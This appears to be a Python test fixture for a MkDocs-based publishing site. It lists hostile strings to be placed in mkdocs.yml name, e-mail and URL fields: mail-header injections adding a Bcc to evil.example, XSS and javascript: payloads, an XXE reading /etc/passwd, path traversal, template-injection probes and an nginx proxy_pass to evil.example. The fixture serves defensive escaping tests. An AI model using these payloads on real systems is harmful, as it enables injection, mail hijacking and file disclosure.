"""Strings that whoever changes mkdocs.yml may put in any of its texts, and that would end a value,
a line or a file for whoever reads what is made from them; and where they are put.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from journal.entries.publisher import PUBLISHER
from support.injections import INJECTIONS, written

THEIRS = "vol@evil.example"
OURS = "a@b.example"

# As one string each, whatever ends a line for some program.
_BREAKS = ("\r\n", "\n", "\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029")
LINES = (
    *(f"Carnet{sign}Bcc: {THEIRS}" for sign in _BREAKS),
    "Carnet\r\n\r\n<html>",
    f"=?utf-8?q?Carnet=0D=0ABcc=3A_{THEIRS.replace('@', '=40')}?=",
    f"=?utf-8?b?Q2FybmV0DQpCY2M6IHZvbEBldmlsLmV4YW1wbGU=?= <{THEIRS}>",
    f'Carnet" <{THEIRS}>, "x',
    f"Carnet, {THEIRS}; c:",
    f'Carnet <meta http-equiv="refresh" content="0;url=https://evil.example/"> <{THEIRS}>',
    f"{'très ' * 20}long, <{THEIRS}>",
    "Carnet (x\\",
    # Calendars, lists of feeds, feeds.
    "Carnet\r\nEND:VCALENDAR\r\nBEGIN:VCALENDAR",
    "Carnet\nBEGIN:VALARM\nACTION:DISPLAY\nEND:VALARM",
    'Carnet\\nATTACH:https://evil.example/;X=":,\\',
    'Carnet" xmlUrl="https://evil.example/',
    "]]></title><script xmlns='http://www.w3.org/1999/xhtml'>canary(1)</script>",
    "?><?xml-stylesheet href='https://evil.example/'?><![CDATA[",
    "&lol; <!ENTITY x SYSTEM 'file:///etc/passwd'> &amp;lt; &#0; &#x0; &notit; &Tab;",
    '"},{"@type":"x","y":"\\u003c/script>\u2028</script>',
    # Hosts, the contact for security, the ledger.
    "Carnet\n/*\n  Set-Cookie: a=b",
    "Carnet\n/* https://evil.example/ 301",
    'Carnet"; } location / { proxy_pass http://evil.example; } # ${request_uri}$uri',
    'Carnet"\n  respond "x"\n} {$HOME}{env.HOME}{{env "HOME"}}',
    f"Carnet\nContact: mailto:{THEIRS}",
    "Carnet\npage visites/x/ = visites/x « X »",
    # Style sheets, templates, Markdown, what GitHub obeys.
    'Carnet"; } @import url(https://evil.example/); a{b:"',
    "\\22 ; } * { background: url(//evil.example/) } \\",
    "</style><img src=x onerror=canary(1)>",
    "{{ config }}{% include 'base.html' %}{# x #}${7*7}",
    "[x](javascript:canary(1)) ![y](https://evil.example/z.png) <https://evil.example/>",
    "Carnet\n\n# Titre\n\n<script>canary(1)</script>\n\n[a]: javascript:canary(1)",
    "@octocat #1 GH-1 https://evil.example/a/b/issues/1 :bomb:",
    "::error file=a::x%0A::set-output name=a::b",
    "<!-- carnet : ce que change la proposition --><details open><summary>x",
    # What no text should hold, and what is merely odd.
    *("Carnet\0x", "Carnet\x01\x02\x1b[31mx", "Carnet\x7f\x80\x9bx", "Carnet\ud800x"),
    *("Carnet\ufffe\uffff\ufdd0x", "\ufeffCarnet", "Carnet\u202etxt.exe", "C\U000e0041\U000e0042"),
    *("C\u200ba\u200dr\u2060n\u00adet", "   ", "\u00a0", "---", "'\"`\\", "a<b c>d </ x", ""),
    *("%s %d %(a)s {0} {a!r} %0A%0D", "../../../etc/passwd", "\u0627\u0644\u0639", "a\u0301" * 99),
    *("🌱" * 120, "x" * 1_500, "mot " * 300),
)
# What is put where an address or a mail is expected; alone, or after a sound beginning.
ADDRESSES = (
    *("javascript:canary(1)", "JaVa\tScript:canary(1)", "\x01javascript:canary(1)", "vbscript:x"),
    *("javascript://a.example/%0Acanary(1)", "data:text/html,<script>canary(1)</script>"),
    *("file:///etc/passwd", "//evil.example/", "\\\\evil.example", "https:\\\\evil.example"),
    *('https://a.example/" onmouseover="canary(1)', "https://a.example/\r\nBcc: x"),
    *(f"https://a.example/ a>, <mailto:{THEIRS}", f"https://a.example/>,<mailto:{THEIRS}>"),
    *("https://évil.example/é?é#é", "https://a.example/\x01\x7f", "https://[::1", "https://"),
    *("http://a.example:99999/", "blob:https://a.example/x", f"https://{'a' * 70}.example/"),
    f"https://a.example/{'é' * 999}",
    *(f"mailto:{OURS}?bcc={THEIRS}", f"{OURS}?bcc={THEIRS}", f"{OURS}%0D%0ABcc:{THEIRS}"),
    *(f"{OURS},{THEIRS}", f"{OURS}>\r\nBcc: {THEIRS}", '"x y"@b.example', "a@[127.0.0.1]"),
    *("a'onmouseover=canary(1)@b.example", f"a@b.{'x' * 999}"),
)
OWN = (*LINES, *ADDRESSES)
# With those that try to act in a page.
STRINGS = (*OWN, *(written(injection, 100_000) for injection in INJECTIONS.values()))


def settings(string: str) -> Iterator[dict[str, Any]]:
    """The texts of mkdocs.yml that say who publishes: that string alone in each; after what each
    ought to hold; and in names alone, where the rest is sound.
    """
    yield one_of_each(string, string, string)
    yield one_of_each(f"Carnet {string}", f"{OURS}{string}", f"https://a.example/{string}")
    yield one_of_each(string, OURS, "https://a.example/")


def one_of_each(name: str, mail: str, address: str) -> dict[str, Any]:
    """The texts of mkdocs.yml: every name, the publisher's mail, every address."""
    return {
        "site_name": name,
        "site_description": name,
        "extra": {
            "editeur": dict.fromkeys(PUBLISHER, name) | {"courriel": mail},
            "licence": {"nom": name, "url": address},
            "agenda_ailleurs": {"nom": name, "url": address},
            "inscription_courriel": address,
            "relire_apres": name,
            "autorite": name,
        },
    }
